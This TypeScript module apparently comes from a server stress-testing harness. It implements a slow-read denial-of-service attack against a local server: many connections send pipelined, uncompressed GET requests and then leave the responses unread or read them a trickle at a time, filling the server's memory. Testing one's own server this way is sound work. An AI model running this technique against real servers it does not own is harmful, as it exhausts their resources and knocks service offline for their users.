import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Outcome, openSilently, outcomeOf } from './connection.ts';

export type SlowReaders = {
  /** Of a server on this machine. */
  port: number;
  paths: readonly string[];
  readers: number;
  /** Requests that each sends at once, before it has read an answer. */
  pipelined: number;
  /** How long the answers are left lying. */
  seconds: number;
  /** Of those who read a little now and then; 0 reads nothing. */
  bytesPerSecond?: number;
};

/**
 * Asks for pages and doesn't take them: what the server has ready stays in its memory. Pages are asked for as they
 * are, uncompressed, because then they are largest. Ends by itself.
 */
export async function slowReaders(attack: SlowReaders): Promise<Outcome> {
  const { port, readers, seconds, bytesPerSecond = 0 } = attack;
  const all = await Promise.all(Array.from({ length: readers }, (_, i) => openSilently(port, requestsOf(attack, i))));
  const sip = (socket: Socket | null) => void socket?.read(bytesPerSecond);
  const sips = bytesPerSecond > 0 ? setInterval(() => all.forEach(sip), 1000) : undefined;
  await sleep(seconds * 1000);
  clearInterval(sips);
  return outcomeOf(all);
}

function requestsOf({ port, paths, pipelined }: SlowReaders, reader: number): string {
  const pathOf = (i: number) => paths[(reader + i) % paths.length];
  const requests = Array.from(
    { length: pipelined },
    (_, i) => `GET ${pathOf(i)} HTTP/1.1\r\nHost: localhost:${port}\r\n`,
  );
  return `${requests.join('\r\n')}\r\n`;
}
